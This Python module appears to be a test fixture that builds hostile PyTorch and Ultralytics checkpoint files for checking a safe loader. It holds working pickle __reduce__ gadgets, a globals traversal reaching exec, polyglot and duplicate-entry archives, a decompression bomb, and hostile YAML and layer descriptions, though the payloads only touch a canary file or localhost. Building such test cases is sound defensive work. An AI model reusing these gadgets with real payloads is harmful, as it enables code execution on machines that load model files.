"""Checkpoints that would execute code, or ask a server, if they were opened as their makers hope."""

import io
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

from runners.ultralytics.framework import Ultralytics

Ultralytics().preload()  # before ultralytics is imported below

from ultralytics.nn.modules import Conv, Detect  # noqa: E402 - as above
from ultralytics.nn.modules.block import TorchVision  # noqa: E402 - as above
from ultralytics.nn.tasks import DetectionModel  # noqa: E402 - as above


class Call:
    """Pickled, it is a call: whoever unpickles it makes that call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments

    def __call__(self) -> None:
        """Nothing: what is pickled as a function must look like one."""


def touch(canary: Path) -> Call:
    return Call(Path.touch, canary)


def saved(content: Any, path: Path, **options: Any) -> None:
    torch.save(content, path, **options)


def layer(**attributes: Any) -> Conv:
    made = Conv(1, 1)
    made.__dict__.update(attributes)
    return made


def model(**attributes: Any) -> DetectionModel:
    backbone = [[-1, 1, "Conv", [8, 3, 8]], [-1, 1, "Conv", [8, 3, 2]], [-1, 1, "Conv", [8, 3, 2]]]
    head = [[[0, 1, 2], 1, "Detect", ["nc"]]]
    made = DetectionModel({"nc": 1, "backbone": backbone, "head": head}, verbose=False)
    made.__dict__.update(attributes)
    return made


def as_pickle(path: Path, canary: Path) -> None:
    path.write_bytes(pickle.dumps({"model": touch(canary)}))


def as_archive(path: Path, canary: Path) -> None:
    saved({"model": touch(canary), "epoch": 0}, path)


def as_old_file(path: Path, canary: Path) -> None:
    saved({"model": touch(canary)}, path, _use_new_zipfile_serialization=False)


def as_tar(path: Path, canary: Path) -> None:
    """How torch saved before 2017."""
    with tarfile.open(path, "w") as archive:
        for name in ("pickle", "storages", "tensors"):
            data = pickle.dumps(touch(canary))
            entry_ = tarfile.TarInfo(name)
            entry_.size = len(data)
            archive.addfile(entry_, io.BytesIO(data))


def behind_a_pickle(path: Path, canary: Path) -> None:
    """A pickle to some readers, an archive to others."""
    as_archive(path, canary)
    path.write_bytes(pickle.dumps(touch(canary)) + path.read_bytes())


def as_two_entries(path: Path, canary: Path) -> None:
    """The archive holds its program twice: readers differ in which they take."""
    harmless, hostile = path.with_name("a"), path.with_name("b")
    saved({"model": layer()}, harmless)
    as_archive(hostile, canary)
    with zipfile.ZipFile(path, "w") as archive:
        for source in (hostile, harmless):
            with zipfile.ZipFile(source) as parts:
                for name in parts.namelist():
                    inner = name.split("/", 1)[1]
                    if source is hostile or inner == "data.pkl":
                        archive.writestr(f"archive/{inner}", parts.read(name))


def as_a_bomb(path: Path, canary: Path) -> None:
    """Small as a file, 16 MiB in memory."""
    saved({"model": b""}, path)
    with zipfile.ZipFile(path) as parts:
        content = {name: parts.read(name) for name in parts.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            archive.writestr(name, b"N" * 2**24 if name.endswith("data.pkl") else data)


def as_torchscript(path: Path, canary: Path) -> None:
    torch.jit.script(torch.nn.Identity()).save(str(path))


def inside_a_layer(path: Path, canary: Path) -> None:
    saved({"model": model(info=touch(canary))}, path)


def by_globals_of_a_method(path: Path, canary: Path) -> None:
    """getattr(getattr(getattr(Detect, "forward"), "__globals__"), "get")("os").system(...)."""
    names = Call(getattr, Call(getattr, Detect, "forward"), "__globals__")
    builtins = Call(Call(getattr, names, "get"), "__builtins__")
    execute = Call(Call(getattr, builtins, "get"), "exec")
    saved({"model": Call(execute, f"open({str(canary)!r}, 'w')")}, path)


def by_a_layers_own_globals(path: Path, canary: Path) -> None:
    initial = Call(getattr, Conv, "__init__")
    saved({"model": Call(getattr, initial, "__globals__")}, path)


def by_downloads(path: Path, canary: Path) -> None:
    from ultralytics.utils.downloads import safe_download

    saved({"model": Call(safe_download, "http://127.0.0.1:1/x", canary)}, path)


def by_another_file(path: Path, canary: Path) -> None:
    from ultralytics.nn.tasks import load_checkpoint

    other = path.with_name("other.pt")
    as_archive(other, canary)
    saved({"model": Call(load_checkpoint, str(other))}, path)


def by_a_layer_that_downloads(path: Path, canary: Path) -> None:
    saved({"model": Call(TorchVision, "resnet18", "DEFAULT", True, 2, False)}, path)


def by_a_model_from_a_file(path: Path, canary: Path) -> None:
    """ultralytics reads a model's description from any path or URL that its constructor is given."""
    description = path.with_name("evil.yaml")
    description.write_text(f"activation: open({str(canary)!r}, 'w')\nnc: 1\nbackbone: []\nhead: []\n")
    saved({"model": Call(DetectionModel, str(description))}, path)


def as_a_quantised_model(path: Path, canary: Path) -> None:
    saved({"model": model(), "modelopt": {"modelopt": {}, "ranges": {}}}, path)


def with_a_method_replaced(path: Path, canary: Path) -> None:
    saved({"model": model(float=Call(getattr, DetectionModel, "forward"))}, path)


def with_a_hook(path: Path, canary: Path) -> None:
    saved({"model": model(_forward_pre_hooks={0: DetectionModel})}, path)


def with_an_activation(path: Path, canary: Path) -> None:
    made = model()
    made.yaml["activation"] = f"open({str(canary)!r}, 'w')"
    saved({"model": made}, path)


def with_a_layer_described(name: str) -> Callable[[Path, Path], None]:
    def make(path: Path, canary: Path) -> None:
        made = model()
        made.yaml["backbone"][0] = [-1, 1, name, [512, "resnet18", "DEFAULT", True, 2, False]]
        saved({"model": made}, path)

    make.__name__ = f"with_{name}_described"
    return make


OPENED_BY_ANYBODY = (as_pickle, as_archive, as_old_file, inside_a_layer, by_globals_of_a_method)
"""What fires in whoever opens it without care."""

HOSTILE = (
    *OPENED_BY_ANYBODY,
    as_tar,
    behind_a_pickle,
    as_torchscript,
    by_a_layers_own_globals,
    by_downloads,
    by_another_file,
    by_a_layer_that_downloads,
    by_a_model_from_a_file,
    as_a_quantised_model,
    with_a_method_replaced,
    with_a_hook,
    with_an_activation,
    with_a_layer_described("TorchVision"),
    with_a_layer_described("DetectionModel"),
    with_a_layer_described("os.system"),
)
